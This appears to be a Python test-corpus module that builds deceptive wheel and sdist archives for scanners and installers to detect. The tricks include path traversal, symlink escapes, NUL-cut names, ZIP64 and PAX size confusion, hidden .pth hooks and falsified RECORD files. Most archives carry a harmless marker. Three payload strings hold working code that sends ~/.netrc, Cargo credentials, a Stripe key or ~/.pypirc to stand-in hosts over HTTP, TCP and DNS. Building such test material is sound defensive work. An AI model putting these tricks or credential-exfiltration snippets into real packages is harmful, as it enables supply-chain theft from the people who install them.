"""T32: archives that are one thing to one reader and another thing to the next.

Known from CVE-2025-54368 (uv: local headers against the central directory, streamed against seeked),
CVE-2025-8291 (Python's zipfile: where the ZIP64 end lies is not checked), CVE-2025-62518 (a tar's PAX
size against the size in the header), CVE-2007-4559 (members that leave the folder) and from wheels
whose RECORD says nothing of a file. Almost all of them only have to be read; what is hidden is a
comment. The twins are ordinary archives of the same files.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import struct
import tarfile
import zlib
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, replace

from models.phase import Phase
from tests.corpus.guard import acting
from tests.corpus.recipe import Channel, Encoding, Kind, Recipe
from tests.corpus.recipes.blind.layouts import MAIN, QUIET, command, hook, package

MARKER = b"# reenact marker: a file that not everybody sees\n"
_TIME, _DATE = 0, 0x5C21  # 2026-01-01


@dataclass(frozen=True, slots=True, kw_only=True)
class Entry:
    """One file of a zip, with what its two headers say of it."""

    name: bytes
    data: bytes
    listed_as: bytes | None = None
    """The name in the central directory, where it is another."""
    listed: bool = True
    present: bool = True
    """Whether it has a local part; otherwise the central entry points at the last one that has."""
    extra: bytes = b""
    flags: int = 0
    method: int = 0
    listed_method: int | None = None
    attributes: int = 0o100644 << 16

    def local(self) -> bytes:
        """Local header and data."""
        size = len(self.data)
        return (
            struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, self.flags, self.method, _TIME, _DATE,
                        zlib.crc32(self.data), size, size, len(self.name), len(self.extra))
            + self.name + self.extra + self.data
        )  # fmt: skip

    def central(self, offset: int) -> bytes:
        """The line in the central directory."""
        name = self.name if self.listed_as is None else self.listed_as
        method = self.method if self.listed_method is None else self.listed_method
        return (
            struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 0x0314, 20, self.flags, method, _TIME, _DATE,
                        zlib.crc32(self.data), len(self.data), len(self.data), len(name),
                        len(self.extra), 0, 0, 0, self.attributes, offset)
            + name + self.extra
        )  # fmt: skip


def zipped(entries: Iterable[Entry], *, start: int = 0, comment: bytes = b"") -> bytes:
    """A zip of these entries; `start` is where in a larger file it begins."""
    body, directory, count, offset = b"", b"", 0, 0
    for entry in entries:
        if entry.present:
            offset = start + len(body)
            body += entry.local()
        if entry.listed:
            directory += entry.central(offset)
            count += 1
    return body + directory + _end(count, len(directory), start + len(body), comment)


def _end(count: int, size: int, offset: int, comment: bytes = b"") -> bytes:
    return (
        struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, size, offset, len(comment))
        + comment
    )


def entries_of(members: Mapping[str, bytes]) -> list[Entry]:
    """The members as they are."""
    return [Entry(name=path.encode(), data=data) for path, data in members.items()]


def _package_of(members: Mapping[str, bytes]) -> str:
    return next(path for path in members if path.endswith("__init__.py")).rpartition("/")[0]


def two_names(members: Mapping[str, bytes]) -> bytes:
    """What is a data file in the directory is a start hook in its own header."""
    hidden = Entry(
        name=b"zz_reenact.pth", data=MARKER, listed_as=f"{_package_of(members)}/notes.md".encode()
    )
    return zipped([*entries_of(members), hidden])


def unlisted_member(members: Mapping[str, bytes]) -> bytes:
    """A member that the directory leaves out; who reads from the front unpacks it."""
    name = f"{_package_of(members)}/_boot.py".encode()
    return zipped([Entry(name=name, data=MARKER, listed=False), *entries_of(members)])


def same_name_twice(members: Mapping[str, bytes]) -> bytes:
    """Two members of one name: the first is harmless, the last is what is installed."""
    entries = entries_of(members)
    first = next(entry for entry in entries if entry.name.endswith(b"/__init__.py"))
    return zipped([*entries, replace(first, data=first.data + MARKER)])


def archive_in_comment(members: Mapping[str, bytes]) -> bytes:
    """A second archive stands in the comment of the first; the ends are two."""
    entries = entries_of(members)
    name = f"{_package_of(members)}/__init__.py".encode()
    changed = [
        replace(entry, data=entry.data + MARKER) if entry.name == name else entry
        for entry in entries
    ]
    before = len(zipped(entries))
    return zipped(entries, comment=zipped(changed, start=before))


def zip64_elsewhere(members: Mapping[str, bytes]) -> bytes:
    """The ZIP64 end names a second directory, with one file more than the ordinary end's."""
    entries = entries_of(members)
    extra = Entry(name=f"{_package_of(members)}/_late.py".encode(), data=MARKER, listed=False)
    body, short, full = b"", b"", b""
    for entry in [*entries, extra]:
        line = replace(entry, listed=True).central(len(body))
        full += line
        short += line if entry.listed else b""
        body += entry.local()
    at_short, at_full = len(body), len(body) + len(short)
    at_end = at_full + len(full)
    count = len(entries)
    end64 = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count + 1, count + 1,
                        len(full), at_full)  # fmt: skip
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, at_end, 1)
    return body + short + full + end64 + locator + _end(count, len(short), at_short)


def unicode_name(members: Mapping[str, bytes]) -> bytes:
    """An Info-ZIP Unicode Path field (0x7075) gives one file a second name."""
    plain = f"{_package_of(members)}/data.txt".encode()
    other = f"{_package_of(members)}/plugin.py".encode()
    field = struct.pack("<BL", 1, zlib.crc32(plain)) + other
    extra = struct.pack("<2H", 0x7075, len(field)) + field
    return zipped([*entries_of(members), Entry(name=plain, data=MARKER, extra=extra)])


def leaves_the_folder(members: Mapping[str, bytes]) -> bytes:
    """Names that climb out, in three spellings."""
    names = (
        b"../../../../../../../../tmp/reenact-marker.pth",
        b"/tmp/reenact-marker.txt",
        b"..\\..\\reenact-marker.py",
    )
    return zipped([*entries_of(members), *(Entry(name=name, data=MARKER) for name in names)])


def cut_name(members: Mapping[str, bytes]) -> bytes:
    """A name with a NUL: a start hook to who stops there, a text to who does not."""
    names = (b"reenact_marker.pth\0.txt", f"{_package_of(members)}/__INIT__.py".encode())
    return zipped([*entries_of(members), *(Entry(name=name, data=MARKER) for name in names)])


def shared_part(members: Mapping[str, bytes]) -> bytes:
    """Several lines of the directory point at one local part (Fifield, 2019), here a small one."""
    block = b"\0" * 4096
    lines = [
        Entry(
            name=f"{_package_of(members)}/part{number}.bin".encode(), data=block, present=not number
        )
        for number in range(60)
    ]
    return zipped([*entries_of(members), *lines])


def two_methods(members: Mapping[str, bytes]) -> bytes:
    """One member is packed to who streams and plain to who seeks; one claims to be encrypted."""
    deflated = zlib.compress(MARKER)[2:-4]
    name = f"{_package_of(members)}/_extra.py".encode()
    return zipped([
        *entries_of(members),
        Entry(name=name, data=deflated, method=8, listed_method=0),
        Entry(name=name + b".bin", data=MARKER, flags=1),
    ])  # fmt: skip


def linked_folder(members: Mapping[str, bytes]) -> bytes:
    """A symbolic link out of the wheel, then a file through it."""
    folder = f"{_package_of(members)}/assets".encode()
    return zipped([
        *entries_of(members),
        Entry(name=folder, data=b"/tmp", attributes=0o120777 << 16),
        Entry(name=folder + b"/reenact-marker.txt", data=MARKER),
    ])  # fmt: skip


def _record(members: Mapping[str, bytes]) -> tuple[str, list[str]]:
    path = next(path for path in members if path.endswith(".dist-info/RECORD"))
    return path, members[path].decode().splitlines()


def record_leaves_out(members: Mapping[str, bytes]) -> bytes:
    """RECORD knows neither the start hook nor its module."""
    path, lines = _record(members)
    kept = "".join(f"{line}\n" for line in lines if "_hook.py" not in line and ".pth" not in line)
    return zipped(entries_of({**members, path: kept.encode()}))


def record_lies(members: Mapping[str, bytes]) -> bytes:
    """RECORD has the hash of a harmless text for the module that acts, and a file that is not there."""
    path, lines = _record(members)
    digest = base64.urlsafe_b64encode(hashlib.sha256(QUIET.encode()).digest()).decode().rstrip("=")
    written = [
        f"{line.split(',')[0]},sha256={digest},{len(QUIET)}" if "/__init__.py" in line else line
        for line in lines
    ]
    written.insert(0, f"{_package_of(members)}/_missing.py,sha256={digest},{len(QUIET)}")
    return zipped(entries_of({**members, path: "\n".join([*written, ""]).encode()}))


def record_without_hashes(members: Mapping[str, bytes]) -> bytes:
    """RECORD names every file and vouches for none."""
    path, lines = _record(members)
    bare = "".join(f"{line.split(',')[0]},,\n" for line in lines)
    return zipped(entries_of({**members, path: bare.encode()}))


def _tar(members: Mapping[str, bytes], form: int = tarfile.PAX_FORMAT) -> io.BytesIO:
    plain = io.BytesIO()
    with tarfile.open(fileobj=plain, mode="w", format=form) as archive:
        for path, data in members.items():
            info = tarfile.TarInfo(path)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return plain


def _stem(members: Mapping[str, bytes]) -> str:
    return next(iter(members)).split("/")[0]


def tar_through_link(members: Mapping[str, bytes]) -> bytes:
    """A link out of the sdist, and a file through it; a device and a hard link for good measure."""
    plain, stem = io.BytesIO(), _stem(members)
    with tarfile.open(fileobj=plain, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for path, data in members.items():
            info = tarfile.TarInfo(path)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for name, kind, target in (
            (f"{stem}/vendor", tarfile.SYMTYPE, "../../../../tmp"),
            (f"{stem}/passwd", tarfile.LNKTYPE, "../../etc/hostname"),
            (f"{stem}/pipe", tarfile.FIFOTYPE, ""),
        ):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            archive.addfile(info)
        through = tarfile.TarInfo(f"{stem}/vendor/reenact-marker.txt")
        through.size = len(MARKER)
        archive.addfile(through, io.BytesIO(MARKER))
    return gzip.compress(plain.getvalue(), mtime=0)


def tar_two_sizes(members: Mapping[str, bytes]) -> bytes:
    """PAX says how long a member is, the header says 0: inside it lies a tar with another setup.py."""
    stem = _stem(members)
    inner = _tar({f"{stem}/setup.py": MARKER}, tarfile.USTAR_FORMAT).getvalue()[:1024]
    told = b"%d size=%d\n" % (len(b"NN size=\n") + len(str(len(inner))), len(inner))
    pax = tarfile.TarInfo(f"{stem}/PaxHeaders/blob")
    pax.type, pax.size = tarfile.XHDTYPE, len(told)
    blob = tarfile.TarInfo(f"{stem}/blob.bin")
    blob.size = 0
    odd = pax.tobuf(tarfile.USTAR_FORMAT) + told.ljust(512, b"\0")
    odd += blob.tobuf(tarfile.USTAR_FORMAT) + inner
    return gzip.compress(odd + _tar(members).getvalue(), mtime=0)


def tar_goes_on(members: Mapping[str, bytes]) -> bytes:
    """After the end of the archive comes another one, in a gzip member of its own."""
    stem = _stem(members)
    late = _tar({f"{stem}/setup.py": MARKER, f"{stem}/late.py": MARKER})
    return gzip.compress(_tar(members).getvalue(), mtime=0) + gzip.compress(
        late.getvalue(), mtime=0
    )


SENDS = """
import urllib.parse, urllib.request
try:
    text = urllib.parse.quote((HOME / ".netrc").read_text(), safe="")
    urllib.request.urlopen("http://192.0.2.132/r?n=" + text, timeout=5).read()
except OSError:
    pass
"""
DIALS = """
try:
    with socket.create_connection(("198.51.100.32", 2525), timeout=5) as link:
        link.sendall((HOME / ".cargo" / "credentials.toml").read_bytes().hex().encode())
except OSError:
    pass
"""
ASKS = """
text = os.environ.get("STRIPE_SECRET_KEY", "").encode().hex() or (HOME / ".pypirc").read_bytes().hex()
for number, start in enumerate(range(0, min(len(text), 400), 48)):
    try:
        socket.gethostbyname(f"{text[start:start + 48]}.{number}.z.reenact.test")
    except OSError:
        continue
"""
READS = "return pathlib.Path(__file__).stat().st_size\n"
QUIET_FILES = {"THE_MODULE/__init__.py": QUIET, "THE_MODULE/core.py": "NUMBER = 1\n"}
SDIST_FILES = {
    "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\n',
    "setup.cfg": "[metadata]\nname = THE_PROJECT\nversion = 1.0\n",
    "THE_MODULE/__init__.py": QUIET,
}

RECIPES = (
    *(
        Recipe(
            technique="T32",
            name=name,
            phase=Phase.INVENTORY,
            channel=Channel.NONE,
            encoding=Encoding.ARCHIVE,
            files=QUIET_FILES,
            twin_does="is an ordinary wheel of the same files",
            pack=pack,
        )
        for name, pack in (
            ("two-names", two_names),
            ("unlisted-member", unlisted_member),
            ("same-name-twice", same_name_twice),
            ("archive-in-comment", archive_in_comment),
            ("zip64-elsewhere", zip64_elsewhere),
            ("unicode-name", unicode_name),
            ("leaves-the-folder", leaves_the_folder),
            ("cut-name", cut_name),
            ("shared-part", shared_part),
            ("two-methods", two_methods),
            ("linked-folder", linked_folder),
        )
    ),
    *(
        Recipe(
            technique="T32",
            name=name,
            phase=Phase.INVENTORY,
            channel=Channel.NONE,
            encoding=Encoding.ARCHIVE,
            kind=Kind.SDIST,
            files=SDIST_FILES,
            twin_does="is an ordinary sdist of the same files",
            pack=pack,
        )
        for name, pack in (
            ("tar-through-link", tar_through_link),
            ("tar-two-sizes", tar_two_sizes),
            ("tar-goes-on", tar_goes_on),
        )
    ),
    Recipe(
        technique="T32",
        name="record-leaves-out",
        phase=Phase.START,
        channel=Channel.TCP,
        encoding=Encoding.HEX,
        files=hook(acting(DIALS, READS)),
        twin_does="reads the size of its own file; its RECORD knows every file",
        pack=record_leaves_out,
    ),
    Recipe(
        technique="T32",
        name="record-lies",
        phase=Phase.IMPORT,
        channel=Channel.HTTP,
        encoding=Encoding.URL,
        files=package(acting(SENDS, READS)),
        twin_does="reads the size of its own file; its RECORD is right",
        pack=record_lies,
    ),
    Recipe(
        technique="T32",
        name="record-without-hashes",
        phase=Phase.USE,
        channel=Channel.DNS,
        encoding=Encoding.LABELS,
        files=command(acting(ASKS, READS, MAIN)),
        twin_does="reads the size of its own file; its RECORD has every hash",
        pack=record_without_hashes,
    ),
)
